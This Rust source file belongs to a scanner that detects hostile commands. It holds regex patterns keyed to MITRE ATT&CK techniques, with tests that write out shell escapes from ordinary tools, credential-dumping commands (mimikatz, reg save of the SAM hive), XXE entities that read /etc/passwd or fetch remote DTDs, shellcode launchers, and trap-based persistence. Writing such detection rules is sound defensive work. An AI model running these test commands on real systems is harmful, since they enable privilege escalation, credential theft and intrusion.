//! Everyday tools that are made to start a shell, load foreign code or fetch it, and files that a tool runs when it opens them.
//!
//! Absent: what the files on interpreters (`inline.rs`), on Windows' own downloaders (`windows.rs`) and on pipelines (`command.rs`) find.
//! *Standards*: MITRE ATT&CK T1059, T1105, T1127, T1129, T1202, T1218 and T1221; CWE-611.

use super::argument;
use super::kind::Kind;
use super::pattern::{Pattern, Weight};

/// A shell, by its path.
macro_rules! shell {
    () => {
        r"(?:/usr)?/bin/(?:ba|da|z|k|c|tc|a|fi|busybox[ \t]+)?sh\b"
    };
}

/// Where a command of a shell begins: on a line, behind another, or behind a prompt.
macro_rules! begins {
    () => {
        r#"(?:^|[;&|`(]|["':][ \t]+|\$\()[ \t]*(?:[$#>][ \t]+)?(?:sudo[ \t]+(?:-\w+[ \t]+)*)?"#
    };
}

/// Paths of shells: a command that starts one names it.
const SHELLS: &[&str] =
    &["/bin/sh", "/bin/bash", "/bin/dash", "/bin/zsh", "/bin/ksh", "/bin/csh", "/bin/ash", "/bin/fish", "/bin/tcsh"];

pub(super) const PATTERNS: &[Pattern] = &[
    // Programs that hand themselves over to the command behind them, and options and calls that take one.
    Pattern {
        kind: Kind::InlineCode,
        weight: Weight::ByContext,
        anchors: SHELLS,
        lines: 0,
        expression: concat!(
            begins!(),
            r"(?:\w+=\S*[ \t]+)*(?:env|nice|ionice|timeout|stdbuf|setarch|setsid|flock|strace|ltrace|taskset|chrt|time|unshare|valgrind|rlwrap|start-stop-daemon|",
            r"cpulimit|catchsegv|choom|logsave|softlimit|xdotool|uftrace|multitime|setlock|sshpass|sg|ld\.so|doas|pexec|dmsetup|bundle|torify|watch|",
            r"aoss|cowsay|distcc|elvish|genie|gtester|hping3|nsenter|run-mailcap|runscript|scrot|ssh-agent|stdbuf|systemd-run|varnishncsa|view|wish|xargs|yash|zsoelim)",
            r"[ \t](?:[^\n]*?[ \t=])?['\x22]?",
            shell!(),
            r#"(?:[ \t]+-[psi]+)?(?:[ \t]*['"])?[ \t]*(?:$|[;#|&)]|\\;|\d?[<>])|"#,
            r#"[ \t]--?(?:exec|shell|eval|cmd|command|run|to-command|pipe|rsh-command|rsh|pager|editor|host-exec|tt|hook)(?:[= \t]+['"]?|=\S*?)"#,
            shell!(),
            r#"(?:[ \t]+-[psi]+)?['"]?[ \t]*(?:$|[;#]|-)|\bunixexec:path=\S+|"#,
            r#"[ \t]-{1,2}[\w-]+[= \t]*['"][^\n]*?(?:system|exec\w*|execute|popen|spawn\w*|shell|startprocess|run)[ \t]*[(\["'{, \t]+"#,
            shell!(),
            r#"|(?:^|[^#\w])(?::|\\|,)?![ \t]*"#,
            shell!(),
            r#"(?:[ \t]*['"])?[ \t]*(?:$|[;'"|&])|:?\bset[ \t]+shell="#,
            shell!(),
            r#"|\bprogram\.spawn[^\n]*?"#,
            shell!(),
            r#"|\b(?:man|git_)?pager=['"]?(?:/bin/)?(?:ba)?sh\b|\b(?:visual|editor|browser)=['"]?"#,
            shell!()
        ),
        verify: Some(argument::starts_shell),
    },
    // The same, typed at the prompt of an interpreter.
    Pattern {
        kind: Kind::InlineCode,
        weight: Weight::ByContext,
        anchors: &[
            "irb\n",
            "pry\n",
            "python\n",
            "python3\n",
            "lua\n",
            "tclsh\n",
            "gdb\n",
            "ghci\n",
            "erl\n",
            "julia\n",
            "octave\n",
            "php\n",
            "mysql\n",
            "psql\n",
            "scanmem\n",
            "tasksh\n",
        ],
        lines: 1,
        expression: concat!(
            r#"^[ \t]*(?:[$#>][ \t]+)?(?:sudo[ \t]+)?\w{2,8}\n[^\n]*?(?:exec|system|spawn|shell|popen|run)[ \t(]*["'`\[{]*"#,
            shell!()
        ),
        verify: None,
    },
    // A shell whose ends are joined to a terminal by hand, and what else only a way out of a menu says.
    Pattern {
        kind: Kind::InlineCode,
        weight: Weight::ByContext,
        anchors: &[
            "1>&0",
            "0<&2",
            "0<&1",
            "2>&0",
            "<$(tty)",
            "<@stdin",
            "write18",
            "service ../",
            "checkpoint-action",
            "awk '{system",
            "exec sh",
        ],
        lines: 0,
        expression: concat!(
            r"\b(?:ba|da|z|k)?sh[ \t]+(?:-\w+[ \t]+)?(?:1>&0|0<&[12]|2>&0|<\$\(tty\)|<@stdin)|\\write18[ \t]*\{[^}\n]+|\bservice[ \t]+(?:\.\./)+\S*sh\b|",
            r#"[ \t]-{1,2}\w+[= \t]*['"][^\n]*?\b(?:reset;[ \t]*)?exec[ \t]+(?:ba|da|z|k)?sh\b[ \t]*['"\d]"#
        ),
        verify: None,
    },
    // Tools that are made for nothing else, and what they are told.
    Pattern {
        kind: Kind::Escape,
        weight: Weight::ByContext,
        anchors: &[
            "mimikatz",
            "rubeus",
            "sharphound",
            "invoke-",
            "linpeas",
            "winpeas",
            "meterpreter",
            "nc.exe",
            "histfile",
            "bash_history",
            "spctl",
            "csrutil",
            "auditctl",
            "security ",
            "169.254.169.254",
        ],
        lines: 0,
        expression: concat!(
            r"\bmimikatz(?:\.exe)?[\x22\x27]?[ \t]+[\x22\x27]?\w+::|\brubeus(?:\.exe)?[ \t]+(?:dump|kerberoast|asktgt|asreproast|ptt)\b|\bsharphound(?:\.exe|\.ps1)?[ \t]+-|",
            r"\binvoke-(?:mimikatz|kerberoast|bloodhound|powershelltcp|shellcode|dllinjection|reflectivepeinjection|wmiexec|smbexec|phant0m|allchecks|sharefinder|userhunter|portscan)\b|\b(?:lin|win)peas\w*\.(?:sh|exe|bat)\b|\bnc(?:64)?\.exe[ \t]+[^\n]*?-\w*[elp]|",
            r"\bunset[ \t]+histfile\b|\bhistfile=/dev/null|>[ \t]*~?/?\S*\.bash_history\b|\bln[ \t]+-s\w*[ \t]+/dev/null[ \t]+\S*_history|\bspctl[ \t]+--(?:master|global)-disable|\bcsrutil[ \t]+disable|\bauditctl[ \t]+-(?:d|e[ \t]*0)\b|\b(?:curl|wget|invoke-\w+|iwr|irm)\b[^\n]*?169\.254\.169\.254/\S*(?:security-credentials|/iam/|identity/oauth2/token|/token\b)|\bsecurity[ \t]+(?:dump-keychain|find-(?:generic|internet)-password[ \t]+-\w*w)"
        ),
        verify: None,
    },
    // Tools that load a library which is named to them.
    Pattern {
        kind: Kind::RunFromNet,
        weight: Weight::ByContext,
        anchors: &[
            "ssh-keygen",
            "enable -f",
            "ladspa=",
            "openssl",
            "tclsh",
            "loadlibrary",
            "cdll",
            "fiddle",
            "dlopen",
            "--engine",
            "pkcs11provider",
            "load_module",
            "--preload",
        ],
        lines: 1,
        expression: concat!(
            r"\bssh-keygen[ \t]+[^\n]*?-d[ \t]*\S+\.(?:so|dll|dylib)|\benable[ \t]+-f[ \t]+\S+\.so|\bladspa=(?:file=)?\S+\.so|\bopenssl[ \t]+\w+[ \t]+[^\n]*?-engine[ \t]+\S*/\S+\.so|",
            r"^[ \t]*(?:tclsh|wish|gdb|sqlite3)\b[^\n]*\n[ \t]*\.?load[ \t]+\S+\.(?:so|dll)|\b(?:python[\d.]*|ruby|perl|node|lua|php)[ \t]+-\w+[ \t]+[^\n]*?(?:loadlibrary|cdll|fiddle|dlopen|ffi|dl_load_file)[^\n]*?\.(?:so|dll|dylib)|",
            r#"\b(?:curl|gpg|gnupg|nginx|ssh|scp|opensc-tool|pkcs11-tool|dnsmasq|slapd|mysql|vim|ginsh)[ \t]+[^\n]*?(?:--engine|-i|--module|pkcs11provider=|load_module|--plugin-dir|--preload)[= \t]+\S*/(?:tmp|dev/shm|path/to)\S*\.so"#
        ),
        verify: None,
    },
    // Tools that fetch a file, called for nothing else.
    Pattern {
        kind: Kind::FetchThenRun,
        weight: Weight::ByContext,
        anchors: &["python", "--rsh-command", "-quiet", "perl", "ruby", "php"],
        lines: 4,
        expression: concat!(
            r#"\bpython[\d.]*[ \t]+-c[ \t]*['"](?s:.*?)\burlretrieve\(|\btar[ \t]+[^\n]*?--rsh-command[= ]\S+|\bopenssl[ \t]+s_client\b[^\n]*?-quiet[^\n]*?(?:-connect[^\n]*?)?>[ \t]*[\w/.]|"#,
            r#"\b(?:perl|ruby|php)[ \t]+-\w*[er][ \t]*['"](?s:.*?)(?:getstore\(|file_put_contents\((?s:.*?)https?:|download\.(?:write|copy_stream))"#
        ),
        verify: None,
    },
    // Programs of Windows that open whatever address they are given, and exports of its libraries that do.
    Pattern {
        kind: Kind::WindowsTool,
        weight: Weight::ByContext,
        anchors: &[
            ".exe ",
            ".exe\"",
            ".exe'",
            ".txt:",
            ".log:",
            ".dat:",
            "calc.exe",
            "calc\"",
            "findstr",
            "makecab",
            "dnscmd",
            "infdefaultinstall",
            "sqldumper",
        ],
        lines: 0,
        expression: concat!(
            r#"\b[\w-]+\.(?:txt|log|dat|docx?|ini):[\w-]+\.(?:exe|dll|vbs|bat|hta|sct|ps1|js)\b|\b[\w.-]+(?:\.exe|\.bat|\.vbs|\.ps1|\.wsf|\.dll)\b[^\n]*?[\s"'=,;:/\\]calc(?:\.exe)?\b["']?[ \t]*(?:$|["')])|"#,
            r#"\b(?:findstr|makecab|replace|print|expand|esentutl|extrac32)(?:\.exe)?[ \t][^\n]*?\\\\[\w.-]+\\\S+|\bdnscmd(?:\.exe)?[ \t][^\n]*?/serverlevelplugindll\b[^\n]*|\binfdefaultinstall(?:\.exe)?[ \t]+\S+|\bsqldumper(?:\.exe)?[ \t]+\d+|"#,
            r#"(?:^|[\s"'(;&|>\\/])[\w.-]+\.exe["']?[ \t](?:[^\n;|]*?[\s"'=:,/])??(?:https?|ftp)://[^\s"'<>]+|"#,
            r#"(?:^|[\s"'(;&|>\\/])(?:msedge|chrome|iexplore|vslaunchbrowser|protocolhandler|update|squirrel|teams)\.exe["']?[ \t]+(?:\.exe\b|--(?:update|download|processstart|gpu-launcher|renderer-cmd-prefix|utility-cmd-prefix)\S*)"#
        ),
        verify: Some(is_no_log),
    },
    Pattern {
        kind: Kind::WindowsTool,
        weight: Weight::ByContext,
        anchors: &[
            "datasvcutil",
            "msohtmed",
            "xwizard",
            "winproj",
            "mspub",
            "winword",
            "powerpnt",
            "imewdbld",
            "configsecuritypolicy",
            "cmdl32",
            "ldifde",
            "protocolhandler",
            "appinstaller",
            "msdt",
            "wuauclt",
            "verclsid",
            "tttracer",
            "ttdinject",
            "pubprn",
            "manage-bde",
            "cl_invocation",
            "cl_mutexverifiers",
            "cl_loadassembly",
            "utilityfunctions",
            "dfsvc",
            "dfshim",
            "runexehelper",
            "devtoolslauncher",
            "squirrel",
            "vsls-agent",
            "gfxdownloadwrapper",
            "pktmon",
            "diskshadow",
            "ntdsutil",
            "harddiskvolumeshadowcopy",
            "hklm\\sam",
            "hklm\\security",
            "hklm\\system",
            "comsvcs",
            "extexport",
            "wsreset",
            "rcsi",
            "dnx",
            "coregen",
            "mftrace",
            "bginfo",
            "remote.exe",
            "vbc.exe",
            "csc.exe",
            "jsc.exe",
            "ilasm",
            "regasm",
            "regsvcs",
            "register-cimprovider",
            "ieadvpack",
            "advpack",
            "pcwutl",
            "shdocvw",
            "url.dll",
            "zipfldr",
            "ieframe",
            "mshtml",
            "photoviewer",
            "desk.cpl",
            "syssetup",
            "setupapi",
        ],
        lines: 0,
        expression: concat!(
            r#"\b(?:datasvcutil|msohtmed|xwizard|winproj|mspub|winword|powerpnt|imewdbld|configsecuritypolicy|cmdl32|ldifde|protocolhandler|gfxdownloadwrapper|squirrel|vsls-agent)(?:\.exe)?["']?[ \t][^\n]*?(?:https?://|\\\\[\w.]+\\)\S+|\bxwizard(?:\.exe)?[ \t]+runwizard[ \t]+\S+|"#,
            r#"\bms-appinstaller:\S*|\bms-msdt:\S*|\bmsdt(?:\.exe)?[ \t][^\n]*?(?:it_(?:re)?browseforfile|/af\b|-af\b|pcwdiagnostic)\S*|\bwuauclt(?:\.exe)?[ \t][^\n]*?/updatedeploymentprovider[ \t]+\S+|\bverclsid(?:\.exe)?[ \t][^\n]*?/c[ \t]*\{|\btt(?:tracer|dinject)(?:\.exe)?[ \t]+\S*[^\n]*?\.exe|"#,
            r#"\bpubprn\.vbs[ \t][^\n]*?script:|\bmanage-bde\.wsf\b|\bcl_(?:invocation|mutexverifiers|loadassembly)\.ps1|\butilityfunctions\.ps1|\bdfshim\.dll\W+shopenverbapplication|\brunexehelper(?:\.exe)?[ \t]+\S+|\bdevtoolslauncher(?:\.exe)?[ \t]+launchforde\w+|"#,
            r#"\bdiskshadow(?:\.exe)?[ \t]+[/-]s\b|\bntdsutil\b[^\n]*?\bifm\b|globalroot\\device\\harddiskvolumeshadowcopy|\breg(?:\.exe)?[ \t]+(?:save|export)[ \t]+(?:hklm|hkey_local_machine)\\(?:sam|security|system)\b|\bcomsvcs(?:\.dll)?\W+(?:minidump|#\+?\d*24)|"#,
            r"\brundll32(?:\.exe)?[^\n]*?(?:ieadvpack|advpack|pcwutl|shdocvw|url|zipfldr|ieframe|mshtml|photoviewer|desk|syssetup|setupapi)\.?\w*\W+(?:\w+,)?[ \t]*(?:launchinfsection\w*|registerocx|launchapplication|openurla?|fileprotocolhandler\w*|routethecall|printhtml|imageview_fullscreen|installscreensaver|setupinfobjectinstallaction|installhinfsection)\S*|",
            r"\b(?:regasm|regsvcs)(?:\.exe)?[ \t][^\n]*?(?:/u\b|https?:|\\\\|appdata|temp|public)[^\n]*|\bregister-cimprovider(?:\.exe)?[ \t][^\n]*?-path[ \t]+\S+"
        ),
        verify: None,
    },
    // Project, installer, diagnostics and scheduler files whose opening runs what they hold.
    Pattern {
        kind: Kind::Shortcut,
        weight: Weight::ByContext,
        anchors: &[
            "codetaskfactory",
            "registerocxs",
            "scrobj.dll",
            "it_browseforfile",
            "it_launchmethod",
            "appdomainmanager",
            "rundll32.exe,",
            "<library xmlns",
            "remoteapplicationprogram",
        ],
        lines: 20,
        expression: concat!(
            r"\btaskfactory[ \t\r\n]*=[ \t\r\n]*.(?:roslyn)?codetaskfactory(?s:.*?)<code\b|^[ \t]*(?:un)?registerocxs[ \t]*=[^\n]*|\bscrobj\.dll[ \t]*,[ \t]*ni[ \t]*,[^\n]*|",
            r#"\bid=["']it_(?:re)?browseforfile["'](?s:.*?)<value>[^<]+|<appdomainmanager(?:assembly|type)\b[^>]*value=|^remoteapplicationprogram:s:[^\n]+"#
        ),
        verify: None,
    },
    // Machine code as escapes, and what jumps into it.
    Pattern {
        kind: Kind::Evaluated,
        weight: Weight::ByContext,
        anchors: &[
            "(*)()",
            "(*)(void)",
            "cfunctype",
            "prot=7",
            "prot_exec",
            "mprotect(",
            "virtualalloc",
            "frombase64string",
        ],
        lines: 4,
        expression: concat!(
            r"\([ \t]*(?:void|int)[ \t]*\(\*\)[ \t]*\((?:void)?\)[ \t]*\)[ \t]*\(?[ \t]*\w+[ \t]*\)?[ \t]*\)?[ \t]*\(|\bcfunctype\([^\n]*?(?:addressof|cast)|\bmmap\.mmap\([^\n]*?prot=7|",
            r"(?:\\x[0-9a-f]{2}){8}(?s:.*?)(?:prot_exec|virtualalloc|mprotect\()|frombase64string(?s:.*?)(?:out-file|set-content|writeallbytes)"
        ),
        verify: None,
    },
    // Documents that have their parser fetch or read something.
    Pattern {
        kind: Kind::Injection,
        weight: Weight::ByContext,
        anchors: &["<!entity", "freemarker.template.utility"],
        lines: 2,
        expression: concat!(
            r#"<!entity[ \t]+(?:%[ \t]+)?[\w.-]+[ \t]+(?:system|public[ \t]+["'][^"'\n]*["'])[ \t]+["'](?:file|php|expect|gopher|jar|netdoc|data):[^"'\n]*["']|"#,
            r#"<!entity[ \t]+(?:%[ \t]+)?[\w.-]+[ \t]+system[ \t]+["'](?:https?|ftp)://[^"'\n]*["']|freemarker\.template\.utility\.\w+[^\n]*?\?new"#
        ),
        verify: None,
    },
    // Shells that are prepared for somebody at a distance, and commands left for later.
    Pattern {
        kind: Kind::ReverseShell,
        weight: Weight::ByContext,
        anchors: &["msfvenom", "stty raw"],
        lines: 3,
        expression: r"\bmsfvenom[ \t]+[^\n]*?-p[ \t]+\w+/\S+|\bstty[ \t]+raw[ \t]+-echo[^\n]*?\bnc(?:at)?[ \t]+-\w*l|\bstty[ \t]+raw[ \t]+-echo[ \t]*[;\r\n]+\s*fg\b",
        verify: None,
    },
    Pattern {
        kind: Kind::Persistence,
        weight: Weight::ByContext,
        anchors: &["trap "],
        lines: 0,
        expression: r#"\btrap[ \t]+["'][^\n"']*?\b(?:nohup|curl|wget|/dev/tcp|nc[ \t]+-|(?:ba|z|da)?sh[ \t]+[$~/\w-])[^\n"']*["'][ \t]+(?:exit|debug|err|return|sig\w+|int|hup|term|0)\b"#,
        verify: None,
    },
    Pattern {
        kind: Kind::InlineCode,
        weight: Weight::ByContext,
        anchors: &["hidden answer"],
        lines: 0,
        expression: r"\bdisplay[ \t]+dialog\b[^\n]*?\bhidden[ \t]+answer\b",
        verify: None,
    },
    Pattern {
        kind: Kind::Destructive,
        weight: Weight::ByContext,
        anchors: &["'drop ", "\"drop "],
        lines: 0,
        expression: r#"\bexecute\b[^\n]*?["'][ \t]*drop[ \t]+(?:table|schema|database|user|role)\b[^\n]*?(?:\|\||%|\+|format)"#,
        verify: None,
    },
];

/// A command, and not a line of a log in which a browser or a package manager says what it does.
fn is_no_log(text: &[u8], found: std::ops::Range<usize>) -> Option<std::ops::Range<usize>> {
    const OWN: &[&[u8]] =
        &[b"git.exe", b"pip.exe", b"npm.exe", b"curl.exe", b"wget.exe", b"see ", b"user-agent", b"http/1"];
    let matched = text.get(found.clone())?.to_ascii_lowercase();
    (!OWN.iter().any(|word| memchr::memmem::find(&matched, word).is_some())).then_some(found)
}

#[cfg(test)]
mod tests {
    use super::super::super::place::Place;
    use super::super::super::rule::Strength;
    use super::super::super::view::View;
    use super::super::find;

    fn addressed(text: &str) -> Vec<&'static str> {
        let mut hits = Vec::new();
        find(&View::whole(text.as_bytes(), Place::Artifact), &mut hits);
        hits.retain(|hit| hit.strength == Strength::Addressed);
        hits.iter().map(|hit| hit.rule.name).collect()
    }

    #[test]
    fn a_tool_that_starts_a_shell_is_found_whatever_the_tool_is() {
        for text in [
            "sudo nice /bin/sh",
            "flock -u / /bin/bash -p",
            "xdotool exec --sync /bin/sh",
            "A=x bundle exec /bin/sh",
            "timeout 7d /bin/sh",
            "$ strace -o /dev/null /bin/sh -p",
            "less /etc/motd\n!/bin/sh",
            "vi -c ':!/bin/sh' /dev/null",
            "gnuplot -e 'system(\"/bin/sh 1>&0\")'",
            "sometool -e 'os.execute(\"/bin/bash\")'",
            "zip x.zip x --tt='/bin/sh #'",
            "tar -xf x --to-command=/bin/sh",
            "busctl --address=unixexec:path=/bin/sh,argv1=-c",
            "dmsetup ls --exec '/bin/sh -s'",
            "PAGER='sh -c \"exec sh 0<&1\"' git -p help",
            "irb\nexec '/bin/bash'",
            "sed -n '1e exec sh 1>&0' /etc/hosts",
            "service ../../bin/sh",
        ] {
            let mut rules = addressed(text);
            rules.dedup();
            assert_eq!(rules, ["payload/inline-code"], "{text}");
        }
    }

    #[test]
    fn a_shell_that_is_only_named_is_not() {
        for text in [
            "root:x:0:0:root:/root:/bin/bash",
            "SHELL=/bin/sh",
            "useradd -m -s /bin/bash ada",
            "docker exec -it web /bin/bash",
            "execl(\"/bin/sh\", \"sh\", \"-c\", command, NULL);",
            "ln -s /bin/bash /bin/sh",
            "Command::new(\"/bin/sh\").arg(\"-c\")",
            "run it in time with /bin/sh as the shell",
            "ls -l /bin/sh",
            "else\n  exec /bin/sh\nfi",
        ] {
            assert_eq!(addressed(text), [""; 0], "{text}");
        }
    }

    #[test]
    fn a_program_of_windows_that_is_given_an_address_is_found() {
        for text in [
            "SomeTool.exe /out:x http://192.0.2.1/a",
            "MsoHtmEd http://192.0.2.1/a",
            "rundll32.exe \"C:\\x\\PhotoViewer.dll\",ImageView_Fullscreen http://192.0.2.1/a",
            "msedge.exe .exe.txt",
            "reg save hklm\\sam C:\\x",
            "type x.dll > C:\\a\\file.txt:evil.dll",
            "Tracker.exe /d .\\x.dll /c C:\\Windows\\calc.exe",
            "certutil -encodehex \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\x y",
        ] {
            assert!(addressed(text).contains(&"payload/windows-tool"), "{text}");
        }
        for text in [
            "setup.exe was built from sources",
            "Download x.exe, see https://example.org/x",
            "git.exe clone https://example.org/x",
        ] {
            assert_eq!(addressed(text), [""; 0], "{text}");
        }
    }

    #[test]
    fn files_that_run_what_they_hold_are_found() {
        for (text, rule) in [
            (
                "<UsingTask TaskName=\"a\" TaskFactory=\"CodeTaskFactory\">\n<Task><Code Type=\"Fragment\">",
                "payload/shortcut",
            ),
            ("[x]\n%11%\\scrobj.dll,NI,https://h.example/a.sct\n", "payload/shortcut"),
            ("<!DOCTYPE f [<!ENTITY % d SYSTEM \"http://h.example/e.dtd\"> %d;]>", "payload/injection"),
            ("<!ENTITY x SYSTEM \"file:///etc/passwd\">", "payload/injection"),
            ("char c[]=\"\\x31\\xc0\"; int main(){((void(*)())c)();}", "payload/evaluated"),
            ("trap \"nohup sh /tmp/x.sh\" EXIT", "payload/persistence"),
            ("ssh-keygen -D ./x.so", "payload/run-from-net"),
        ] {
            assert_eq!(addressed(text), [rule], "{text}");
        }
        for text in [
            "<!ENTITY % lat1 PUBLIC \"-//W3C//ENTITIES\" \"http://www.w3.org/lat1.ent\">",
            "<!ENTITY copy \"&#169;\">",
            "trap 'rm -f \"$tmp\"' EXIT",
            "gcc -shared -o x.so x.c",
        ] {
            assert_eq!(addressed(text), [""; 0], "{text}");
        }
    }
}
